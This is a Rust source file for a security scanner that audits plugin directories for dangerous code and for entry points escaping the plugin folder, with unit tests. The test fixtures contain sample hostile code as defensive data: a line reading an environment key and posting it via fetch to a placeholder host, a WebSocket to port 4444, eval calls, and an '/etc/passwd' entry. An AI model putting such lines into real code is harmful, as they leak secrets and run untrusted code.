//! `plugins.code_safety*`: scan every `<state>/extensions/<dir>` (reference §1.12, §3.2).

use std::fs;
use std::path::{Component, Path, PathBuf};

use super::rules::ScanHit;
use super::scanner::{DirScan, ScanOptions, dir_name, is_skipped_name, scan_dir, visible_subdirs};
use crate::finding::{Finding, Severity};

/// Detail lines listed per finding before "… and N more".
pub(crate) const MAX_DETAIL_LINES: usize = 50;

/// Renders hits as `  - [ruleId] message (relpath:line)` lines, capped.
pub(crate) fn hit_lines(hits: &[ScanHit]) -> String {
    let mut lines: Vec<String> = hits
        .iter()
        .take(MAX_DETAIL_LINES)
        .map(ScanHit::detail_line)
        .collect();
    if hits.len() > MAX_DETAIL_LINES {
        lines.push(format!("  … and {} more", hits.len() - MAX_DETAIL_LINES));
    }
    lines.join("\n")
}

/// `(critical, warn)` counts.
pub(crate) fn counts(hits: &[ScanHit]) -> (usize, usize) {
    let c = hits
        .iter()
        .filter(|h| h.severity == Severity::Critical)
        .count();
    (c, hits.len() - c)
}

/// Plugin directories under `extensions_dir`, sorted (hidden names and `node_modules` skipped;
/// symlinked plugin dirs are included and scanned at their target).
pub fn plugin_dirs(extensions_dir: &Path) -> std::io::Result<Vec<PathBuf>> {
    visible_subdirs(fs::read_dir(extensions_dir)?)
}

/// Entries of `package.json` → `openclaw.extensions[]`; `Err` with the parse error when the
/// manifest is not valid JSON. A missing manifest yields no entries.
fn manifest_entries(plugin_dir: &Path) -> Result<Vec<String>, String> {
    let path = plugin_dir.join("package.json");
    let text = match fs::read_to_string(&path) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Vec::new()),
        // An unreadable plugin dir is reported once, as `scan_failed`.
        Err(_) if fs::read_dir(plugin_dir).is_err() => return Ok(Vec::new()),
        Err(e) => return Err(e.to_string()),
    };
    let value: serde_json::Value = serde_json::from_str(&text).map_err(|e| e.to_string())?;
    let entries = value
        .get("openclaw")
        .and_then(|o| o.get("extensions"))
        .and_then(serde_json::Value::as_array)
        .map(|a| {
            a.iter()
                .filter_map(|v| v.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default();
    Ok(entries)
}

/// Where an entry points, lexically: `None` if it is absolute or climbs out of the plugin dir.
fn lexical_entry(entry: &str) -> Option<PathBuf> {
    let p = Path::new(entry);
    let mut out = PathBuf::new();
    for comp in p.components() {
        match comp {
            Component::CurDir => {}
            Component::ParentDir => {
                if !out.pop() {
                    return None;
                }
            }
            Component::Normal(n) => out.push(n),
            Component::RootDir | Component::Prefix(_) => return None,
        }
    }
    Some(out)
}

/// Canonicalizes the deepest existing ancestor of `path` and appends the rest, so an entry that
/// does not exist (yet) behind a symlinked directory still resolves where it would be loaded from.
fn resolve_existing(path: &Path) -> PathBuf {
    let mut rest = Vec::new();
    let mut cur = path;
    loop {
        if let Ok(canon) = fs::canonicalize(cur) {
            let mut out = canon;
            out.extend(rest.iter().rev());
            return out;
        }
        match (cur.parent(), cur.file_name()) {
            (Some(parent), Some(name)) => {
                rest.push(name.to_os_string());
                cur = parent;
            }
            _ => return path.to_path_buf(),
        }
    }
}

fn in_hidden_or_node_modules(rel: &Path) -> bool {
    rel.components()
        .any(|c| matches!(c, Component::Normal(n) if is_skipped_name(&n.to_string_lossy())))
}

/// Scans one plugin dir and appends its findings.
pub fn scan_plugin(plugin_dir: &Path, out: &mut Vec<Finding>) {
    let name = dir_name(plugin_dir);
    let mut forced = Vec::new();
    match manifest_entries(plugin_dir) {
        Err(e) => out.push(
            Finding::new(
                "plugins.code_safety.manifest_parse_error",
                Severity::Warn,
                format!("Plugin \"{name}\" has an unreadable package.json"),
                format!("{}: {e}", plugin_dir.join("package.json").display()),
            )
            .remediation("Fix or reinstall the plugin; its entry points could not be checked."),
        ),
        Ok(entries) => {
            let root_canon =
                fs::canonicalize(plugin_dir).unwrap_or_else(|_| plugin_dir.to_path_buf());
            for entry in entries {
                let escapes = match lexical_entry(&entry) {
                    None => true,
                    Some(rel) => {
                        let full = plugin_dir.join(&rel);
                        let via_link = !resolve_existing(&full).starts_with(&root_canon);
                        if !via_link && in_hidden_or_node_modules(&rel) {
                            out.push(
                                Finding::new(
                                    "plugins.code_safety.entry_path",
                                    Severity::Warn,
                                    format!("Plugin \"{name}\" entry point is in a hidden directory or node_modules"),
                                    format!("openclaw.extensions entry \"{entry}\" points into a hidden directory or node_modules, which code review tools usually skip (it was scanned anyway)."),
                                )
                                .remediation("Ship plugin entry points from the plugin's own source tree."),
                            );
                        }
                        if !via_link {
                            forced.push(full);
                        }
                        via_link
                    }
                };
                if escapes {
                    out.push(
                        Finding::new(
                            "plugins.code_safety.entry_escape",
                            Severity::Critical,
                            format!("Plugin \"{name}\" entry point escapes the plugin directory"),
                            format!("openclaw.extensions entry \"{entry}\" resolves outside {} (lexically or through a symlink); that code was not scanned.", plugin_dir.display()),
                        )
                        .remediation("Remove the plugin or fix its package.json so every entry stays inside the plugin directory."),
                    );
                }
            }
        }
    }
    let opts = ScanOptions {
        forced,
        ..ScanOptions::default()
    };
    match scan_dir(plugin_dir, &opts) {
        Err(e) => out.push(scan_failed(
            "plugins.code_safety.scan_failed",
            &format!("Plugin \"{name}\""),
            plugin_dir,
            &e,
        )),
        Ok(scan) => push_code_safety(
            &scan,
            "plugins.code_safety",
            &format!("Plugin \"{name}\""),
            plugin_dir,
            "Review the plugin's source; remove or disable it (`plugins.entries.<id>.enabled: false`) unless you trust every flagged line.",
            out,
        ),
    }
}

pub(crate) fn scan_failed(check_id: &str, what: &str, dir: &Path, e: &std::io::Error) -> Finding {
    Finding::new(
        check_id,
        Severity::Warn,
        format!("{what} could not be scanned"),
        format!("{}: {e}", dir.display()),
    )
    .remediation("Check the directory's permissions and re-run the audit with --deep.")
}

pub(crate) fn push_code_safety(
    scan: &DirScan,
    check_id: &str,
    what: &str,
    dir: &Path,
    remediation: &str,
    out: &mut Vec<Finding>,
) {
    let Some(sev) = scan.max_severity() else {
        return;
    };
    let (c, w) = counts(&scan.hits);
    let title = if sev == Severity::Critical {
        format!("{what} contains dangerous code patterns")
    } else {
        format!("{what} contains suspicious code patterns")
    };
    let detail = format!(
        "{} ({c} critical, {w} warn):\n{}",
        dir.display(),
        hit_lines(&scan.hits)
    );
    out.push(Finding::new(check_id, sev, title, detail).remediation(remediation));
}

/// Scans every plugin under `extensions_dir`, calling `progress` with each plugin's name before
/// scanning it. A missing extensions dir yields nothing.
pub fn scan_plugins(extensions_dir: &Path, progress: &mut dyn FnMut(&str)) -> Vec<Finding> {
    let mut out = Vec::new();
    let dirs = match plugin_dirs(extensions_dir) {
        Ok(d) => d,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return out,
        Err(e) => {
            out.push(scan_failed(
                "plugins.code_safety.scan_failed",
                "The extensions directory",
                extensions_dir,
                &e,
            ));
            return out;
        }
    };
    for dir in dirs {
        progress(&format!("scanning plugin {}", dir_name(&dir)));
        scan_plugin(&dir, &mut out);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        if let Some(parent) = p.parent() {
            fs::create_dir_all(parent).expect("mkdir");
        }
        fs::write(p, text).expect("write");
    }

    fn ids(findings: &[Finding]) -> Vec<(&str, Severity)> {
        findings
            .iter()
            .map(|f| (f.check_id.as_str(), f.severity))
            .collect()
    }

    #[test]
    fn clean_and_dirty_plugins() {
        let ext = tempfile::tempdir().expect("tempdir");
        write(ext.path(), "clean/index.js", "export default () => 1;");
        write(
            ext.path(),
            "clean/package.json",
            r#"{"openclaw":{"extensions":["./index.js"]}}"#,
        );
        write(
            ext.path(),
            "bad/index.js",
            "const k = process.env.KEY;\nfetch('https://x', {body:k});",
        );
        write(
            ext.path(),
            "warny/index.js",
            "const ws = new WebSocket('ws://x:4444');",
        );
        write(ext.path(), ".trash/index.js", "eval(x)");
        write(ext.path(), "not-a-dir.js", "eval(x)");
        let mut seen = Vec::new();
        let out = scan_plugins(ext.path(), &mut |n| seen.push(n.to_string()));
        assert_eq!(
            seen,
            [
                "scanning plugin bad",
                "scanning plugin clean",
                "scanning plugin warny"
            ]
        );
        assert_eq!(
            ids(&out),
            [
                ("plugins.code_safety", Severity::Critical),
                ("plugins.code_safety", Severity::Warn)
            ]
        );
        assert!(out[0].title.contains("\"bad\""));
        assert!(
            out[0].detail.contains("  - [env-harvesting] "),
            "{}",
            out[0].detail
        );
        assert!(out[0].detail.contains("(index.js:1)"), "{}", out[0].detail);
        assert!(out[1].detail.contains("[suspicious-network]"));
    }

    #[test]
    fn missing_extensions_dir_is_quiet() {
        let d = tempfile::tempdir().expect("tempdir");
        assert!(scan_plugins(&d.path().join("extensions"), &mut |_| {}).is_empty());
    }

    #[test]
    fn manifest_parse_error() {
        let ext = tempfile::tempdir().expect("tempdir");
        write(ext.path(), "p/package.json", "{ not json");
        write(ext.path(), "q/package.json", r#"{"name":"q"}"#);
        let out = scan_plugins(ext.path(), &mut |_| {});
        assert_eq!(
            ids(&out),
            [("plugins.code_safety.manifest_parse_error", Severity::Warn)]
        );
    }

    #[test]
    fn entry_in_node_modules_is_flagged_and_scanned() {
        let ext = tempfile::tempdir().expect("tempdir");
        write(
            ext.path(),
            "p/package.json",
            r#"{"openclaw":{"extensions":["node_modules/x/main.js", "./src/ok.js"]}}"#,
        );
        write(ext.path(), "p/node_modules/x/main.js", "eval(payload)");
        write(ext.path(), "p/src/ok.js", "export {}");
        let out = scan_plugins(ext.path(), &mut |_| {});
        assert_eq!(
            ids(&out),
            [
                ("plugins.code_safety.entry_path", Severity::Warn),
                ("plugins.code_safety", Severity::Critical)
            ]
        );
        assert!(out[1].detail.contains("(node_modules/x/main.js:1)"));
        // A hidden dir entry too.
        let ext = tempfile::tempdir().expect("tempdir");
        write(
            ext.path(),
            "p/package.json",
            r#"{"openclaw":{"extensions":[".dist/main.js"]}}"#,
        );
        write(ext.path(), "p/.dist/main.js", "export {}");
        let out = scan_plugins(ext.path(), &mut |_| {});
        assert_eq!(
            ids(&out),
            [("plugins.code_safety.entry_path", Severity::Warn)]
        );
    }

    #[test]
    fn entry_escape_lexical() {
        let ext = tempfile::tempdir().expect("tempdir");
        write(
            ext.path(),
            "p/package.json",
            r#"{"openclaw":{"extensions":["../other/index.js"]}}"#,
        );
        write(
            ext.path(),
            "q/package.json",
            r#"{"openclaw":{"extensions":["/etc/passwd"]}}"#,
        );
        write(
            ext.path(),
            "r/package.json",
            r#"{"openclaw":{"extensions":["./a/../b.js"]}}"#,
        );
        let out = scan_plugins(ext.path(), &mut |_| {});
        assert_eq!(
            ids(&out),
            [
                ("plugins.code_safety.entry_escape", Severity::Critical),
                ("plugins.code_safety.entry_escape", Severity::Critical)
            ]
        );
    }

    #[cfg(unix)]
    #[test]
    fn entry_escape_via_symlink() {
        let outside = tempfile::tempdir().expect("tempdir");
        write(outside.path(), "evil.js", "eval(x)");
        let ext = tempfile::tempdir().expect("tempdir");
        write(
            ext.path(),
            "p/package.json",
            r#"{"openclaw":{"extensions":["./lib/evil.js", "lib/not-there.js"]}}"#,
        );
        fs::create_dir_all(ext.path().join("p")).expect("mkdir");
        std::os::unix::fs::symlink(outside.path(), ext.path().join("p/lib")).expect("symlink");
        let out = scan_plugins(ext.path(), &mut |_| {});
        let got = ids(&out);
        let escapes = got
            .iter()
            .filter(|g| **g == ("plugins.code_safety.entry_escape", Severity::Critical));
        assert_eq!(escapes.count(), 2, "{got:?}");
        // The escaping target itself was not scanned (only the symlink is reported).
        assert!(
            !out.iter()
                .any(|f| f.detail.contains("dynamic-code-execution"))
        );
    }

    #[cfg(unix)]
    #[test]
    fn unreadable_plugin_dir_is_scan_failed() {
        use std::os::unix::fs::PermissionsExt;
        let ext = tempfile::tempdir().expect("tempdir");
        write(ext.path(), "p/index.js", "export {}");
        let p = ext.path().join("p");
        fs::set_permissions(&p, fs::Permissions::from_mode(0o000)).expect("chmod");
        let readable = fs::read_dir(&p).is_ok(); // root ignores permissions
        let out = scan_plugins(ext.path(), &mut |_| {});
        fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).expect("chmod");
        if !readable {
            assert_eq!(
                ids(&out),
                [("plugins.code_safety.scan_failed", Severity::Warn)]
            );
        }
    }

    #[test]
    fn extensions_path_not_a_dir_is_scan_failed() {
        let d = tempfile::tempdir().expect("tempdir");
        let ext = d.path().join("extensions");
        fs::write(&ext, "not a dir").expect("write");
        let out = scan_plugins(&ext, &mut |_| {});
        assert_eq!(
            ids(&out),
            [("plugins.code_safety.scan_failed", Severity::Warn)]
        );
    }

    #[test]
    fn hit_lines_are_capped() {
        let hits: Vec<ScanHit> = (0..MAX_DETAIL_LINES + 3)
            .map(|i| ScanHit::new("r", Severity::Warn, "m", "a.js", i + 1))
            .collect();
        let text = hit_lines(&hits);
        assert_eq!(text.lines().count(), MAX_DETAIL_LINES + 1);
        assert!(text.ends_with("… and 3 more"));
    }
}
